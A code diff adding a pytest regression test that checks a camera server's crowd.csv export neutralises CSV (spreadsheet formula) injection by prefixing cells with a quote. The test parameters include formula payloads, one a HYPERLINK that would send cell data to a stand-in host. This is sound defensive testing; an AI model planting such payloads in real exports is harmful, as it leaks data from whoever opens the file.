@@ -539,3 +539,25 @@ def test_the_server_purges_expired_sightings_itself(
         assert warden.store.get_sighting(fresh) is not None
         purges = [e for e in warden.audit.entries(limit=1000) if e.action == "retention.purge"]
         assert purges and purges[0].actor == "system:retention"
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(1)"]
+)
+def test_a_camera_name_cannot_become_a_spreadsheet_formula_in_crowd_csv(
+    live: LiveServer, photos: dict[str, Path], name: str
+) -> None:
+    # Found by hand (OWASP "CSV injection"): an operator's camera name went into
+    # crowd.csv as is, so the analyst who opened the export in a spreadsheet ran
+    # it as a formula. A cell starting with = + - @ (or a tab or CR) now starts
+    # with a quote, which spreadsheets show as text.
+    with live.client("operator") as operator:
+        camera = _camera(operator, name, location=f"csv export {name}")["camera_id"]
+        assert _push(operator, camera, photos["obama2"].read_bytes(), None).status_code == 200
+        operator.post(f"/v1/cameras/{camera}/frames/end").raise_for_status()
+    with live.client("analyst") as analyst:
+        since = (datetime.now(UTC) - timedelta(minutes=2)).isoformat()
+        exported = analyst.get(f"/v1/cameras/{camera}/crowd.csv", params={"start": since})
+    assert exported.status_code == 200, exported.text
+    rows = list(csv.reader(io.StringIO(exported.text)))
+    assert len(rows) == 2 and rows[1][0] == "'" + name
